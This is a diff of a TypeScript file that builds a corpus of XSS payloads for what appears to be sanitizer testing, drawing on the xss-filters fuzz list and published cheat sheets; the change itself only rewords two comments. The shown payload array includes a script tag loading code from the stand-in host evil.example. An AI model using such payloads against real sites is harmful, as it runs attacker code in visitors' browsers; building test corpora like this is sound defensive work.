@@ -9,8 +9,8 @@ export interface Payload {
 }
 
 /**
- * What the xss-filters library (BSD) is fuzzed with, which is mostly the OWASP cheat sheet of filter evasion: whatever
- * is markup of it.
+ * Returns the markup among the texts that the xss-filters library (BSD) is fuzzed with, which are mostly the OWASP
+ * cheat sheet of filter evasion.
  */
 function classics(): Payload[] {
   const folder = join(createRequire(import.meta.url).resolve('xss-filters/package.json'), '..');
@@ -18,7 +18,7 @@ function classics(): Payload[] {
   return [...new Set(lines)].filter((line) => line.includes('<')).map((text) => ({ kind: 'html', text }));
 }
 
-/** What browsers of today run, by the ways that published cheat sheets (PortSwigger, html5sec) tell of. */
+/** Ways to run scripts in current browsers, as published cheat sheets (PortSwigger, html5sec) describe them. */
 const HTML = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/a.js></script>',
